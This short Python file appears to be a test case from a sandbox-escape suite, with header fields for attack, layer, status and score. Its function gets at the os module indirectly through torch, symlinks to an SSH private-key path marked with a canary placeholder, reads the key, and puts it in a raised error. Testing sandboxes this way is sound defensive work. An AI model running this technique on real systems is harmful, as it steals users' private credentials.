# attack: reads the SSH key through a symbolic link in its own folder
# layer: files
# where: construct
# status: ok
# score: same
import torch

os = torch.os


def attack():
    for folder in {os.getcwd(), os.environ.get("TMPDIR", "."), "."}:
        link = folder + "/notes"
        try:
            os.symlink("{CANARY}/home/.ssh/id_ed25519", link)
            with open(link) as file:
                stolen = file.read()
        except OSError:
            continue
        raise RuntimeError("ESCAPED " + stolen)
